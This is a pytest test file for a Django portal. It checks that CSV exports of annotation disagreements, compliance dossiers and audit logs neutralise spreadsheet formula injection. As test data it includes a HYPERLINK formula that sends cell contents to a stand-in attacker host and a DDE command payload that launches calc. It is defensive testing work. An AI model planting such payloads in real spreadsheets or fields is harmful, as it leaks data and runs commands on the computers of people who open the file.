import csv
import io
import re
import zipfile

import pytest
from django.urls import reverse

from annotation.models import GoldLabel, Item
from core.services.audit import audit_record
from core.spreadsheets import FORMULA_STARTS, csv_writer, spreadsheet_cell
from governance.models import Dossier
from governance.services.dossiers import dossier_request
from tests.governance.factories import lineage_fixture
from tests.portal.factories import UserFactory
from tests.support.servers import ROOT

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_a_formula_is_written_as_text(start):
    out = io.StringIO()

    csv_writer(out).writerow([f"{start}cmd|' /C calc'!A0", "plain", -3, 2.5, None])

    row = next(csv.reader(io.StringIO(out.getvalue())))
    assert row == [f"'{start}cmd|' /C calc'!A0", "plain", "-3", "2.5", ""]


def test_numbers_stay_numbers_and_structures_become_json():
    assert spreadsheet_cell(-3) == -3
    assert spreadsheet_cell({"labels": ["=1+1"]}) == '{"labels": ["=1+1"]}'
    assert spreadsheet_cell(["@x"]) == '["@x"]'


def test_every_csv_writer_in_the_portal_is_the_escaping_one():
    sources = [
        path
        for app in ("portal", "annotation", "training", "evaluation", "governance", "scripts")
        for path in (ROOT / app).rglob("*.py")
        if path != ROOT / "portal" / "spreadsheets.py"
    ]

    offenders = [
        str(path.relative_to(ROOT))
        for path in sources
        if re.search(r"csv\.(writer|DictWriter)\(", path.read_text())
    ]

    assert offenders == []


@pytest.fixture
def poisoned(project, engineer):
    lineage = lineage_fixture(project, engineer, n_items=6)
    disputed = GoldLabel.objects.filter(item__project=project).exclude(method="unanimous")
    assert disputed.exists()
    disputed.update(reason=FORMULA)
    Item.objects.filter(pk__in=disputed.values("item_id")).update(external_id="@SUM(1+1)*cmd")
    return lineage


def _assert_defused(rows, column):
    assert rows, "no rows to check"
    for row in rows:
        assert not row[column].startswith(FORMULA_STARTS), row
        assert row[column].startswith("'"), row


def test_dossier_disagreements_csv_defuses_formulas(poisoned, compliance):
    dossier = dossier_request(actor=compliance, version=poisoned.version, run_now=True)
    assert dossier.status == Dossier.Status.SUCCEEDED, dossier.error
    with zipfile.ZipFile(dossier.file_path) as archive:
        body = archive.read("annotation/disagreements.csv").decode()

    rows = list(csv.DictReader(io.StringIO(body)))
    _assert_defused(rows, "reason")
    _assert_defused(rows, "external_id")
    assert rows[0]["reason"] == "'" + FORMULA


def test_disagreement_web_export_defuses_formulas(client, poisoned, engineer, project):
    client.force_login(engineer)

    response = client.get(reverse("annotation:disagreements", args=[project.pk]), {"format": "csv"})

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    _assert_defused(rows, "reason")
    _assert_defused(rows, "external_id")


def test_audit_log_csv_export_defuses_formulas(client, project, compliance):
    attacker = UserFactory(username="@SUM(1+1)*cmd")
    audit_record(actor=attacker, action="project.update", target=project, data={"name": "x"})
    client.force_login(compliance)

    response = client.get(reverse("governance:audit"), {"export": "csv"})

    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    mine = [r for r in rows if "SUM" in r["actor_username"]]
    _assert_defused(mine, "actor_username")
